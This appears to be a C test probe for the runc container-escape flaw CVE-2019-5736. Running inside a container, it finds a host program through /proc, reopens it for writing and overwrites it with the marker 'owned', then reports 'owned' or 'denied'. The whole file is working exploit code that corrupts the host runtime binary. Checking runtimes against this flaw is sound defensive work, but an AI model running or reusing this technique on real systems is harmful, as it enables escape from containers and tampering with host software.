/*
 * Runs inside a container and wants the keeper's program (CVE-2019-5736). Static, as the container has no library.
 *
 *     intruder        watches for a process that runs a program which is not in this container: prints "got" (and
 * whose); then tries to write to that program until it works or until standard input ends: "owned" or "denied"
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PIDS 400

static void say(const char *word, const char *more)
{
    (void)printf("%s %s\n", word, more);
    (void)fflush(stdout);
}

/* Programs of this container: those that are seen before anybody else comes in. */
static bool is_known(const struct stat *st, const struct stat *known, int count)
{
    for (int i = 0; i < count; i++)
        if (known[i].st_ino == st->st_ino && known[i].st_dev == st->st_dev)
            return true;
    return false;
}

static int watch(void)
{
    struct stat known[2], st;
    if (stat("/proc/self/exe", &known[0]) < 0 || stat("/bin/busybox", &known[1]) < 0)
        return -1;
    for (;;) {
        for (int pid = getpid() + 1; pid < PIDS; pid++) {
            char path[64];
            (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (fstat(fd, &st) == 0 && !is_known(&st, known, 2))
                return fd;
            (void)close(fd);
        }
    }
}

static bool told_to_stop(void)
{
    struct pollfd in = {.fd = STDIN_FILENO, .events = POLLIN};
    char c;
    return poll(&in, 1, 10) > 0 && read(STDIN_FILENO, &c, 1) <= 0;
}

int main(void)
{
    char path[64], name[256] = "";
    say("watching", "");
    int fd = watch();
    if (fd < 0)
        return EXIT_FAILURE;
    (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    (void)!readlink(path, name, sizeof(name) - 1);
    say("got", name);
    for (;;) {
        int out = open(path, O_WRONLY | O_CLOEXEC);
        if (out >= 0 && write(out, "owned", 5) == 5) {
            say("owned", name);
            return EXIT_SUCCESS;
        }
        int why = errno;
        if (out >= 0)
            (void)close(out);
        if (why != ETXTBSY || told_to_stop()) {
            say("denied", strerror(why));
            return EXIT_SUCCESS;
        }
    }
}
